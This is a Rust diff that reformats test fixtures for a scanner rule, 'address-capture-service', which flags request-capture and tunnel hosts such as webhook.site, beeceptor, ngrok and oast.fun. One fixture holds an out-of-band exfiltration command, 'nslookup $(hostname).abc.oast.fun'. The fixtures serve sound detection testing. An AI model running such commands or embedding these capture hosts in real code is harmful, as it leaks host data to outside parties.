@@ -28,8 +28,16 @@ const EXAMPLES: &[Example] = &[
         files: || one("handler.py", "URL = 'https://webhook.site/0123'\n"),
         fires: &["address-capture-service"],
     },
-    Example { name: "program-twin", files: || one("handler.py", "URL = 'https://models.demo.internal/0123'\n"), fires: &[] },
-    Example { name: "remark", files: || one("handler.py", "# tried with https://webhook.site/0123\n"), fires: &[] },
+    Example {
+        name: "program-twin",
+        files: || one("handler.py", "URL = 'https://models.demo.internal/0123'\n"),
+        fires: &[],
+    },
+    Example {
+        name: "remark",
+        files: || one("handler.py", "# tried with https://webhook.site/0123\n"),
+        fires: &[],
+    },
     Example {
         name: "without-scheme",
         files: || one("start.sh", "nslookup $(hostname).abc.oast.fun\n"),
@@ -40,13 +48,21 @@ const EXAMPLES: &[Example] = &[
         files: || one("settings.yaml", "report_to: https://demo.beeceptor.com/x\n"),
         fires: &["address-capture-service"],
     },
-    Example { name: "settings-twin", files: || one("settings.yaml", "report_to: https://mybeeceptor.community/x\n"), fires: &[] },
+    Example {
+        name: "settings-twin",
+        files: || one("settings.yaml", "report_to: https://mybeeceptor.community/x\n"),
+        fires: &[],
+    },
     Example {
         name: "tunnel",
         files: || one("settings.yaml", "server: https://demo.ngrok-free.app\n"),
         fires: &["address-capture-service"],
     },
-    Example { name: "card", files: || one("README.md", "Try it with https://webhook.site or ngrok.io\n"), fires: &[] },
+    Example {
+        name: "card",
+        files: || one("README.md", "Try it with https://webhook.site or ngrok.io\n"),
+        fires: &[],
+    },
 ];
 
 fn check(facts: &Facts, findings: &mut Findings<'_>) {
